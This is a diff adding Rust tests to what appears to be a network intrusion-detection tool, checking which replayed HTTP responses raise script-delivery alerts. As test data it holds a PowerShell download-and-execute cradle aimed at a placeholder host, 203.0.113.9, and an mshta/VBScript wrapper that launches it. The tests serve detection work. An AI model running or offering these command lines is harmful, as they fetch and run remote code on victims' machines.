@@ -99,6 +99,42 @@ fn a_program_that_an_ordinary_client_fetches_is_silent_however_long_it_is() {
 }
 
 #[test]
+fn a_page_that_shows_commands_is_silent_and_what_comes_behind_it_is_not() {
+    let folder = tempfile::tempdir().unwrap();
+    let line = "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/a'))";
+    let page = format!("<!DOCTYPE html>\n<html><body><script>var a = 1;</script><pre>{line}</pre></body></html>").into_bytes();
+    let feed = format!("<?xml version=\"1.0\"?><rss><item><description>{line}</description></item></rss>").into_bytes();
+    let told = |body: &[u8]| {
+        let path = capture(folder.path(), &[("10.20.30.77", "/install", whole(body))]);
+        alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>()
+    };
+    assert_eq!((told(&page), told(&feed)), (vec![], vec![]));
+    assert_eq!(told(line.as_bytes()), [9_403_003]);
+    // An application of mshta.exe is a page by its form only.
+    let shell = format!(
+        "<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -c {line}\"</script></html>"
+    );
+    assert_eq!(told(shell.as_bytes()), [9_403_003]);
+    // The page says nothing of the next body of its connection: words of a text, where nothing else tells of them.
+    let json = format!("{{\"run\": \"{line}\"}}");
+    let path = capture(folder.path(), &[("10.20.30.77", "/install", [whole(&page), whole(json.as_bytes())].concat())]);
+    assert_eq!(alert_counts(&replayed(&path, &[])).into_keys().collect::<Vec<_>>(), [9_411_023]);
+}
+
+#[test]
+fn a_script_by_the_name_that_its_sender_gives_is_one() {
+    let folder = tempfile::tempdir().unwrap();
+    let told = |fields: &str, target: &str| {
+        let response = format!("HTTP/1.1 200 OK\r\n{fields}Content-Length: 8\r\n\r\nGet-Date").into_bytes();
+        let path = capture(folder.path(), &[("10.20.30.77", target, response)]);
+        alert_counts(&replayed(&path, &["--set", "backup_servers=10.20.30.77"])).into_keys().collect::<Vec<_>>()
+    };
+    assert_eq!(told("Content-Disposition: attachment; filename=\"x.ps1\"\r\n", "/get?id=5"), [9_404_007]);
+    assert_eq!(told("", "/x%2eps1"), [9_404_007]);
+    assert_eq!(told("Content-Disposition: attachment; filename=\"x.txt\"\r\n", "/get?id=x.ps1"), [0_u64; 0]);
+}
+
+#[test]
 fn padding_behind_a_script_does_not_hide_it() {
     let folder = tempfile::tempdir().unwrap();
     let path = capture(folder.path(), &[("10.20.30.77", "/update.txt", whole(&padded(LOADER, 400_000)))]);
